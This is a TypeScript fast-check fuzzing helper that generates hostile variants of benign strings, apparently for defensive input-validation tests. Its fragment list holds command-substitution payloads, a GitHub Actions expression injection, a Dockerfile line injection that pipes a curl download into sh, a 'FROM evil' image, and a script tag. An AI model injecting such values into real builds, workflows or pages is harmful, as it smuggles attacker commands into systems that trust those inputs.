import fc from 'fast-check';

/** Pieces of hostile strings: shell, expression, YAML, Dockerfile and Markdown breakers, unicode, length. */
export const FRAGMENTS = [
  "'", '"', '$(id)', '`id`', '${{ github.event.pull_request.title }}', '${{', '}}', '\n', '\r\n', '\nRUN curl x | sh\n', '\nFROM evil:1',
  ': ', ' #', '#', '- ', '{', '}', '[', ']', '&a', '*a', '!', '|', '>', '%', '@', '\\', ';', ' ', '\t', 'é', '🙂', '\u2028', '\u0000', '\u007f',
  '..', '/', '//', '$HOME', '${X}', '<script>', '\\\n', '0', 'A', ':99999', 'x'.repeat(300), 'latest', '.lock', '-',
];

/** A hostile value near a benign one: fragments appended, prepended, inserted or in its place. */
export function hostile(benign: string): fc.Arbitrary<string> {
  const fragments = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 3 }).map((f) => f.join(''));
  return fc.oneof(
    fragments.map((f) => `${benign}${f}`),
    fragments.map((f) => `${f}${benign}`),
    fc.tuple(fragments, fc.nat({ max: Math.max(0, benign.length) })).map(([f, i]) => `${benign.slice(0, i)}${f}${benign.slice(i)}`),
    fragments,
    fc.string({ unit: 'grapheme', maxLength: 12 }).map((s) => `${benign}${s}`),
  );
}
